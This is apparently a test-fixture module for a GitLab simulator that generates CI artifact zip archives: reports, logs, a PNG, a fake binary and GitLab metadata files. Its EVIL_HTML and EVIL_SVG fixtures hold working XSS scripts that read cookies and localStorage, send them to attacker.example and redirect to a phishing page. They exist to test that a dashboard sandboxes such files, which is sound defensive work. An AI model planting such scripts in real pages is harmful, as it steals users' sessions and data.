// Job artifact archives: real zip files (fflate) with what CI jobs really upload (reports,
// logs, images, binaries), plus files that attack whoever renders them, and a bulk mode for
// the 10,000-file benchmark archive. Also the side files GitLab keeps beside an archive:
// metadata.gz (its listing) and the gzipped JUnit report.
import { crc32 as nativeCrc32, deflateRawSync, deflateSync } from 'node:zlib';
import { Zip, gzipSync } from 'fflate';
import type { ZipInputFile } from 'fflate';
import { createRng, hashString } from './random.ts';
import type { Rng } from './random.ts';

export interface ArchiveSpec {
  seed: number;
  jobName: string;
  /** total files (the default content counts too); more are made in bulk/ */
  fileCount?: number;
  /** total bytes of all files, at least; bulk files take what the default content leaves */
  totalBytes?: number;
}

/** One row as GitLab 18.8's `GET …/jobs/:id/artifacts/tree?recursive=true` lists it. */
export interface ArchiveEntry {
  path: string; // directories end in "/"
  type: 'file' | 'directory';
  size: number;
  mode: string; // "100644", "100755", "040755"
}

export interface Archive {
  zip: Uint8Array;
  entries: ArchiveEntry[];
  /** a file's bytes, or undefined for a directory or an unknown path */
  file(path: string): Uint8Array | undefined;
}

/** Paths every default archive holds, so tests can name them. */
export const ARTIFACT_PATHS = {
  buildLog: 'build/output.log',
  binary: 'build/bin/app',
  image: 'assets/images/pipeline.png',
  junit: 'reports/junit.xml',
  coverage: 'reports/coverage/index.html',
  coverageDeep: 'reports/coverage/lib/api/ci/jobs.rb.html',
  evilHtml: 'evil/steal.html',
  evilSvg: 'evil/image.svg',
  summary: 'data/summary.json',
  blob: 'data/blob.bin',
  unicodeName: 'docs/Release notes – Überblick ✓ 2024.md',
} as const;

const FILE_MODE = '100644';
const EXEC_MODE = '100755';
const DIR_MODE = '040755';

const enc = new TextEncoder();

// ---------------------------------------------------------------- CRC32 and PNG

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

/** CRC-32 (ISO 3309), as PNG chunks and zip entries use it. */
export function crc32(bytes: Uint8Array): number {
  let c = 0xffffffff;
  for (let i = 0; i < bytes.length; i++) c = (CRC_TABLE[(c ^ (bytes[i] ?? 0)) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(enc.encode(type), 4);
  out.set(data, 8);
  view.setUint32(8 + data.length, crc32(out.subarray(4, 8 + data.length)));
  return out;
}

/** A small RGB picture: a gradient sky, a sun, green hills: a real PNG made by hand. */
export function makePng(width: number, height: number, seed = 1): Uint8Array<ArrayBuffer> {
  const r = createRng(seed);
  const sunX = width * (0.25 + r.next() * 0.5);
  const sunY = height * 0.3;
  const sunR = Math.max(2, Math.min(width, height) * 0.15);
  const raw = new Uint8Array(height * (1 + width * 3));
  for (let y = 0; y < height; y++) {
    const row = y * (1 + width * 3);
    raw[row] = 0; // filter: none
    for (let x = 0; x < width; x++) {
      const hill = height * 0.7 + Math.sin((x / width) * Math.PI * 2 + seed) * height * 0.08;
      let px: [number, number, number];
      if (y > hill) px = [40, 140 + Math.round((y / height) * 60), 60];
      else if ((x - sunX) ** 2 + (y - sunY) ** 2 < sunR ** 2) px = [252, 196, 40];
      else px = [60 + Math.round((y / height) * 80), 120 + Math.round((y / height) * 80), 230];
      raw.set(px, row + 1 + x * 3);
    }
  }
  const ihdr = new Uint8Array(13);
  const v = new DataView(ihdr.buffer);
  v.setUint32(0, width);
  v.setUint32(4, height);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type: truecolour
  const signature = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
  const parts = [
    signature,
    pngChunk('IHDR', ihdr),
    pngChunk('tEXt', enc.encode('Software\0gitlab-sim')),
    pngChunk('IDAT', new Uint8Array(deflateSync(raw))),
    pngChunk('IEND', new Uint8Array(0)),
  ];
  return concat(parts);
}

function concat(parts: Uint8Array[]): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}

// ---------------------------------------------------------------- default content

function xmlEscape(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

interface JunitCase { name: string; classname: string; time: number; failure?: string; skipped?: boolean }

/** JUnit XML as rspec_junit_formatter / jest-junit write it: suites, failures, a skipped case. */
export function makeJunitXml(seed: number, jobName: string): string {
  const r = createRng(hashString(jobName, seed));
  const suites: { name: string; cases: JunitCase[] }[] = [
    { name: 'Ci::JobsFinder', cases: [] },
    { name: 'API::Ci::Jobs', cases: [] },
    { name: 'Gitlab::Ci::Ansi2json', cases: [] },
    { name: `${jobName} smoke`, cases: [] },
  ];
  for (const s of suites) {
    const n = r.int(3, 8);
    for (let i = 0; i < n; i++) {
      s.cases.push({ name: `${s.name} #${['returns', 'filters', 'paginates', 'renders'][i % 4] ?? 'does'} case ${i + 1}`, classname: s.name.replace(/::/g, '.'), time: Math.round(r.next() * 3000) / 1000 });
    }
  }
  // Fixed cases the dashboard's tests can look for.
  suites[1]?.cases.push({
    name: 'POST /projects/:id/jobs/:job_id/retry retries a failed job',
    classname: 'API.Ci.Jobs',
    time: 2.314,
    failure: 'expected: 201\n     got: 403\n\n(compared using ==)\n./spec/requests/api/ci/jobs_spec.rb:812',
  });
  suites[2]?.cases.push({ name: 'parses <script>alert(1)</script> & "quotes" as text', classname: 'Gitlab.Ci.Ansi2json', time: 0.004 });
  suites[2]?.cases.push({ name: 'handles 256 colours', classname: 'Gitlab.Ci.Ansi2json', time: 0, skipped: true });
  suites[3]?.cases.push({ name: 'boots the app', classname: 'Smoke', time: 12.5, failure: 'Timeout::Error: execution expired after 12.5 s' });

  const lines = ['<?xml version="1.0" encoding="UTF-8"?>'];
  const total = suites.reduce((n, s) => n + s.cases.length, 0);
  const failures = suites.reduce((n, s) => n + s.cases.filter((c) => c.failure).length, 0);
  const time = suites.reduce((n, s) => n + s.cases.reduce((m, c) => m + c.time, 0), 0);
  lines.push(`<testsuites name="${xmlEscape(jobName)}" tests="${total}" failures="${failures}" errors="0" time="${time.toFixed(3)}">`);
  for (const s of suites) {
    const f = s.cases.filter((c) => c.failure).length;
    const sk = s.cases.filter((c) => c.skipped).length;
    const t = s.cases.reduce((m, c) => m + c.time, 0);
    lines.push(`  <testsuite name="${xmlEscape(s.name)}" tests="${s.cases.length}" failures="${f}" errors="0" skipped="${sk}" time="${t.toFixed(3)}" timestamp="2024-05-22T12:43:46Z" hostname="runner-1">`);
    for (const c of s.cases) {
      const open = `    <testcase classname="${xmlEscape(c.classname)}" name="${xmlEscape(c.name)}" file="./spec/${xmlEscape(c.classname.toLowerCase().replace(/\./g, '/'))}_spec.rb" time="${c.time.toFixed(3)}"`;
      if (c.failure) {
        lines.push(`${open}>`);
        lines.push(`      <failure message="${xmlEscape(c.failure.split('\n')[0] ?? '')}" type="RSpec::Expectations::ExpectationNotMetError">${xmlEscape(c.failure)}</failure>`);
        lines.push('    </testcase>');
      } else if (c.skipped) {
        lines.push(`${open}>`);
        lines.push('      <skipped message="Temporarily skipped with xit"/>');
        lines.push('    </testcase>');
      } else {
        lines.push(`${open}/>`);
      }
    }
    lines.push('  </testsuite>');
  }
  lines.push('</testsuites>');
  return lines.join('\n') + '\n';
}

function buildLogText(r: Rng, jobName: string): string {
  const E = '\x1b';
  const lines = [
    `${E}[1m${E}[36m==> Building ${jobName}${E}[0m`,
    `${E}[32m✓${E}[0m compiled ${r.int(100, 900)} modules in ${(r.next() * 9).toFixed(2)}s`,
    `${E}[33mwarning${E}[0m: unused import in ${E}[1msrc/api/jobs.ts${E}[22m:${r.int(1, 200)}`,
    `${E}[38;5;208mslow${E}[39m test: ${E}[38;2;255;105;180mJobsTable renders 10k rows${E}[39m (${r.int(800, 3000)} ms)`,
    `${E}[31merror${E}[0m: <img src=x onerror=alert(1)> is not a valid artifact name`,
    `See https://gitlab.example.com/acme/platform/backend/-/jobs/${r.int(1000, 99999)}`,
    `Ünïcödé ✓ 日本語`,
  ];
  for (let i = 0; i < 40; i++) lines.push(`${E}[2m[${String(i).padStart(3, '0')}]${E}[22m step ${i} ${i % 7 === 0 ? `${E}[32mok${E}[0m` : 'done'}`);
  return lines.join('\n') + '\n';
}

const COVERAGE_CSS = `body{font:14px/1.4 system-ui,sans-serif;margin:2rem;color:#1f1e24}
table{border-collapse:collapse}td,th{padding:.25rem .75rem;border-bottom:1px solid #dcdcde}
.high{background:#c3e6cd}.medium{background:#fff4e1}.low{background:#fdd4cd}
`;

function coverageHtml(r: Rng, jobName: string): { index: string; page: string; pct: number } {
  const files = ['lib/api/ci/jobs.rb', 'app/models/ci/build.rb', 'app/services/ci/retry_job_service.rb', 'lib/gitlab/ci/ansi2json/converter.rb'];
  const rows = files.map((f) => {
    const pct = r.int(40, 100);
    const cls = pct > 90 ? 'high' : pct > 70 ? 'medium' : 'low';
    return { f, pct, row: `<tr class="${cls}"><td><a href="${f}.html">${f}</a></td><td>${pct}%</td></tr>` };
  });
  const pct = Math.round(rows.reduce((n, x) => n + x.pct, 0) / rows.length);
  const index = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Coverage: ${xmlEscape(jobName)}</title>
<link rel="stylesheet" href="style.css"></head>
<body><h1>Code coverage</h1><p>All files: <strong>${pct}%</strong> covered</p>
<table><thead><tr><th>File</th><th>Covered</th></tr></thead><tbody>
${rows.map((x) => x.row).join('\n')}
</tbody></table></body></html>
`;
  const page = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>lib/api/ci/jobs.rb</title><link rel="stylesheet" href="../../../style.css"></head>
<body><h1>lib/api/ci/jobs.rb</h1><pre>
<span class="high">  post ':id/jobs/:job_id/retry' do</span>
<span class="low">    forbidden!('Job is not retryable') unless can?(current_user, :update_build, build)</span>
<span class="high">  end</span>
</pre><p><a href="../../../index.html">Back</a></p></body></html>
`;
  return { index, page, pct };
}

// Files that try to escape whatever shows them: a dashboard must sandbox them.
const EVIL_HTML = `<!doctype html>
<html><head><meta charset="utf-8"><title>Test report</title></head>
<body>
<h1>Totally harmless test report</h1>
<p id="result">script did not run</p>
<script>
  var result = { ran: true, origin: String(location.origin) };
  try { result.localStorage = JSON.stringify(Object.assign({}, window.localStorage)); } catch (e) { result.localStorage = 'blocked: ' + e.name; }
  try { result.cookie = document.cookie; } catch (e) { result.cookie = 'blocked: ' + e.name; }
  try { result.parent = String(window.parent.location.href); } catch (e) { result.parent = 'blocked: ' + e.name; }
  document.getElementById('result').textContent = 'script ran: ' + JSON.stringify(result);
  window.__ARTIFACT_SCRIPT_RAN__ = true;
  try { window.parent.postMessage({ type: 'artifact-steal', result: result }, '*'); } catch (e) {}
  try { fetch('https://attacker.example/steal', { method: 'POST', mode: 'no-cors', body: JSON.stringify(result) }); } catch (e) {}
  try { window.top.location.href = 'https://attacker.example/phish'; } catch (e) {}
</script>
<img src="x" onerror="document.body.setAttribute('data-onerror-ran','1')">
</body></html>
`;

const EVIL_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="160" height="48" viewBox="0 0 160 48" onload="document.documentElement.setAttribute('data-onload-ran','1')">
  <rect width="160" height="48" rx="6" fill="#fc6d26"/>
  <text x="80" y="30" font-family="sans-serif" font-size="16" fill="#fff" text-anchor="middle">coverage 87%</text>
  <script type="text/javascript"><![CDATA[
    try { localStorage.setItem('svg-was-here', '1'); } catch (e) {}
    try { new Image().src = 'https://attacker.example/c?' + encodeURIComponent(document.cookie + '|' + JSON.stringify(localStorage)); } catch (e) {}
  ]]></script>
</svg>
`;

interface FileSpec { path: string; bytes: Uint8Array<ArrayBuffer>; mode: string; deflate: boolean }

function defaultFiles(spec: ArchiveSpec): FileSpec[] {
  const r = createRng(hashString(spec.jobName, spec.seed >>> 0));
  const text = (path: string, s: string, mode = FILE_MODE): FileSpec => ({ path, bytes: enc.encode(s), mode, deflate: true });
  const bin = (path: string, bytes: Uint8Array<ArrayBuffer>, mode = FILE_MODE): FileSpec => ({ path, bytes, mode, deflate: false });
  const randomBytes = (n: number): Uint8Array<ArrayBuffer> => {
    const words = new Uint32Array(Math.ceil(n / 4));
    for (let i = 0; i < words.length; i++) words[i] = Math.floor(r.next() * 0x100000000);
    return new Uint8Array(words.buffer, 0, n);
  };
  const elf = randomBytes(r.int(8_000, 24_000));
  elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0); // ELF64 little-endian header start
  const cov = coverageHtml(r, spec.jobName);
  const junit = makeJunitXml(spec.seed, spec.jobName);
  const summary = {
    job: spec.jobName,
    seed: spec.seed,
    tests: { total: (junit.match(/<testcase /g) ?? []).length, failed: (junit.match(/<failure /g) ?? []).length, skipped: 1 },
    coverage: cov.pct,
    artifacts: Object.values(ARTIFACT_PATHS),
    note: 'Generated by gitlab-sim <b>not HTML</b> ✓',
  };
  return [
    text('README.md', `# Artifacts of ${spec.jobName}\n\nBuilt by gitlab-sim (seed ${spec.seed}). See reports/ and build/.\n`),
    text(ARTIFACT_PATHS.buildLog, buildLogText(r, spec.jobName)),
    bin(ARTIFACT_PATHS.binary, elf, EXEC_MODE),
    text('build/bin/run.sh', '#!/bin/sh\nexec "$(dirname "$0")/app" "$@"\n', EXEC_MODE),
    bin(ARTIFACT_PATHS.image, makePng(64 + r.int(0, 64), 48 + r.int(0, 32), spec.seed)),
    text(ARTIFACT_PATHS.junit, junit),
    text(ARTIFACT_PATHS.coverage, cov.index),
    text('reports/coverage/style.css', COVERAGE_CSS),
    text(ARTIFACT_PATHS.coverageDeep, cov.page),
    text(ARTIFACT_PATHS.evilHtml, EVIL_HTML),
    text(ARTIFACT_PATHS.evilSvg, EVIL_SVG),
    text(ARTIFACT_PATHS.summary, JSON.stringify(summary, null, 2) + '\n'),
    bin(ARTIFACT_PATHS.blob, randomBytes(r.int(4_096, 65_536))),
    text(ARTIFACT_PATHS.unicodeName, `# Überblick\n\nÄnderungen ✓, naïve café, 日本語.\n`),
    text('src/lib/deep/nested/notes.txt', `Three levels deep.\n${'lorem ipsum dolor sit amet '.repeat(r.int(5, 40))}\n`),
    text('empty.txt', ''),
  ];
}

// ---------------------------------------------------------------- bulk content

const POOL_BYTES = 1 << 22; // 4 MiB of noise that bulk files are cut from

interface BulkFile { path: string; size: number; /** where it starts in the pool, 0..1 */ offset: number }

/** Noise for bulk files: at most 4 MiB, less when the bulk is small (it costs to make). */
function makePool(seed: number, bulkBytes: number): Uint8Array<ArrayBuffer> {
  const r = createRng(hashString('pool', seed >>> 0));
  const size = Math.min(POOL_BYTES, Math.max(4096, Math.ceil(bulkBytes / 4096) * 4096));
  const words = new Uint32Array(size / 4);
  for (let i = 0; i < words.length; i++) words[i] = Math.floor(r.next() * 0x100000000);
  return new Uint8Array(words.buffer);
}

/** The bytes of a bulk file: a run through the pool, wrapping around. */
function* bulkChunks(pool: Uint8Array<ArrayBuffer>, f: BulkFile): Generator<Uint8Array<ArrayBuffer>> {
  let left = f.size;
  let at = Math.floor(f.offset * pool.length);
  while (left > 0) {
    const n = Math.min(left, pool.length - at);
    yield pool.subarray(at, at + n);
    left -= n;
    at = 0;
  }
}

function planBulk(spec: ArchiveSpec, defaults: FileSpec[]): BulkFile[] {
  const count = Math.max(0, (spec.fileCount ?? 0) - defaults.length);
  const defaultBytes = defaults.reduce((n, f) => n + f.bytes.length, 0);
  const bytes = Math.max(0, (spec.totalBytes ?? 0) - defaultBytes);
  const files = Math.max(count, bytes > 0 ? 1 : 0);
  if (files === 0) return [];
  const r = createRng(hashString('bulk', spec.seed >>> 0));
  const base = Math.floor(bytes / files);
  const extra = bytes - base * files;
  const perDir = 100;
  const out: BulkFile[] = [];
  let jitter = 0;
  for (let i = 0; i < files; i++) {
    // Sizes vary in pairs (+d, then -d) so that their sum stays exact.
    if (i % 2 === 0) jitter = i + 1 < files ? r.int(0, Math.floor(base / 2)) : 0;
    const size = base + (i < extra ? 1 : 0) + (i % 2 === 0 ? jitter : -jitter);
    const dir = Math.floor(i / perDir);
    const ext = i % 10 === 0 ? 'log' : 'bin';
    out.push({
      path: `bulk/part-${String(Math.floor(dir / 10)).padStart(2, '0')}/group-${String(dir % 10)}/file-${String(i).padStart(5, '0')}.${ext}`,
      size,
      offset: r.next(), // a fraction of the pool, which is sized later
    });
  }
  return out;
}

// ---------------------------------------------------------------- the zip

const ZIP_EPOCH = Date.UTC(2024, 4, 22, 12, 0, 0);

function sortEntries(paths: string[]): string[] {
  // Depth-first: a directory, then its subdirectories, then its files, each by name
  // (as GitLab's artifact browser lists them).
  const split = (p: string): { segs: string[]; dir: boolean } => {
    const dir = p.endsWith('/');
    return { segs: (dir ? p.slice(0, -1) : p).split('/'), dir };
  };
  return [...paths].sort((a, b) => {
    const x = split(a);
    const y = split(b);
    const n = Math.min(x.segs.length, y.segs.length);
    for (let i = 0; i < n; i++) {
      const xs = x.segs[i] ?? '';
      const ys = y.segs[i] ?? '';
      if (xs === ys) continue;
      const xDir = i < x.segs.length - 1 || x.dir;
      const yDir = i < y.segs.length - 1 || y.dir;
      if (xDir !== yDir) return xDir ? -1 : 1;
      return xs < ys ? -1 : 1;
    }
    return x.segs.length - y.segs.length; // an ancestor before what it holds
  });
}

function parentDirs(path: string): string[] {
  const parts = path.split('/');
  const dirs: string[] = [];
  for (let i = 1; i < parts.length; i++) dirs.push(parts.slice(0, i).join('/') + '/');
  return dirs;
}

/** A job's artifacts archive; the same spec always gives the same bytes. */
export function buildArchive(spec: ArchiveSpec): Archive {
  const defaults = defaultFiles(spec);
  const bulk = planBulk(spec, defaults);
  const pool = bulk.length > 0 ? makePool(spec.seed, bulk.reduce((n, f) => n + f.size, 0)) : new Uint8Array(0);
  const byPath = new Map<string, { kind: 'default'; f: FileSpec } | { kind: 'bulk'; f: BulkFile }>();
  for (const f of defaults) byPath.set(f.path, { kind: 'default', f });
  for (const f of bulk) byPath.set(f.path, { kind: 'bulk', f });

  const dirs = new Set<string>();
  for (const p of byPath.keys()) for (const d of parentDirs(p)) dirs.add(d);
  const ordered = sortEntries([...dirs, ...byPath.keys()]);

  const chunks: Uint8Array[] = [];
  let failure: Error | null = null;
  const zip = new Zip((err, data) => {
    if (err) failure = err;
    else chunks.push(data);
  });
  const mtime = new Date(ZIP_EPOCH + (spec.seed % 10_000) * 60_000);
  // fflate writes the container; node's zlib deflates and checksums (native, many times
  // faster than doing both in JS, which matters when a jobs list builds archives).
  const add = (path: string, mode: string, parts: Uint8Array<ArrayBuffer>[], deflate: boolean): number => {
    let crc = 0;
    let size = 0;
    for (const p of parts) {
      crc = nativeCrc32(p, crc);
      size += p.length;
    }
    const isDir = path.endsWith('/');
    const input: ZipInputFile = {
      filename: path,
      size,
      crc,
      compression: deflate ? 8 : 0,
      mtime,
      os: 3, // Unix, so that `attrs` carries the mode
      attrs: ((parseInt(mode, 8) << 16) | (isDir ? 0x10 : 0)) >>> 0,
    };
    zip.add(input);
    const emit = input.ondata;
    if (!emit) throw new Error('fflate did not take the file');
    const out = deflate ? [new Uint8Array(deflateRawSync(concat(parts)))] : parts;
    if (out.length === 0) emit(null, new Uint8Array(0), true);
    out.forEach((c, i) => emit(null, c, i === out.length - 1));
    return size;
  };
  const entries: ArchiveEntry[] = [];
  for (const path of ordered) {
    if (path.endsWith('/')) {
      add(path, DIR_MODE, [], false);
      entries.push({ path, type: 'directory', size: 0, mode: DIR_MODE });
      continue;
    }
    const item = byPath.get(path);
    if (!item) continue;
    if (item.kind === 'default') {
      const size = add(path, item.f.mode, [item.f.bytes], item.f.deflate && item.f.bytes.length > 0);
      entries.push({ path, type: 'file', size, mode: item.f.mode });
    } else {
      // Noise does not compress: store it, as the runner's fastzip does for such files.
      const size = add(path, FILE_MODE, [...bulkChunks(pool, item.f)], false);
      entries.push({ path, type: 'file', size, mode: FILE_MODE });
    }
  }
  zip.end();
  if (failure) throw failure;
  const bytes = concat(chunks);

  return {
    zip: bytes,
    entries,
    file(path) {
      const item = byPath.get(path);
      if (!item) return undefined;
      if (item.kind === 'default') return item.f.bytes;
      return concat([...bulkChunks(pool, item.f)]);
    },
  };
}

// ---------------------------------------------------------------- side files

const GZIP_MTIME = ZIP_EPOCH;

/**
 * metadata.gz as gitlab-workhorse writes it beside an archive (zipartifacts/metadata.go):
 * a header, an errors object, then per entry its path and a JSON of mode/size/crc, each
 * string prefixed with its big-endian uint32 length; gzipped.
 */
export function artifactsMetadataGz(archive: Archive): Uint8Array {
  const parts: Uint8Array[] = [];
  const put = (s: string): void => {
    const b = enc.encode(s);
    const len = new Uint8Array(4);
    new DataView(len.buffer).setUint32(0, b.length);
    parts.push(len, b);
  };
  put('GitLab Build Artifacts Metadata 0.0.2\n');
  put('{}');
  for (const e of archive.entries) {
    put(e.path);
    put(JSON.stringify({ modified: Math.floor(ZIP_EPOCH / 1000), mode: e.mode, size: e.size }));
  }
  return gzipSync(concat(parts), { mtime: GZIP_MTIME });
}

/** The `junit` report artifact (junit.xml.gz) of an archive, if it holds reports/junit.xml. */
export function junitReportGz(archive: Archive): Uint8Array | undefined {
  const xml = archive.file(ARTIFACT_PATHS.junit);
  return xml ? gzipSync(xml, { mtime: GZIP_MTIME, filename: 'junit.xml' }) : undefined;
}

/** Sizes for a job's `artifacts[]` and `artifacts_file` fields. */
export function artifactSummary(archive: Archive): { archiveSize: number; metadataSize: number; junitSize: number } {
  return {
    archiveSize: archive.zip.length,
    metadataSize: artifactsMetadataGz(archive).length,
    junitSize: junitReportGz(archive)?.length ?? 0,
  };
}

/**
 * A job's `artifacts` array as GitLab returns it (see jobs-api-17's example): archive,
 * metadata, the log (`trace`, when it has one) and the junit report.
 */
export function jobArtifactsField(
  archive: Archive | null,
  traceSize: number,
): { file_type: string; size: number; filename: string; file_format: string }[] {
  const out: { file_type: string; size: number; filename: string; file_format: string }[] = [];
  if (archive) {
    const s = artifactSummary(archive);
    out.push({ file_type: 'archive', size: s.archiveSize, filename: 'artifacts.zip', file_format: 'zip' });
    out.push({ file_type: 'metadata', size: s.metadataSize, filename: 'metadata.gz', file_format: 'gzip' });
  }
  if (traceSize > 0) out.push({ file_type: 'trace', size: traceSize, filename: 'job.log', file_format: 'raw' });
  if (archive) {
    const j = junitReportGz(archive);
    if (j) out.push({ file_type: 'junit', size: j.length, filename: 'junit.xml.gz', file_format: 'gzip' });
  }
  return out;
}
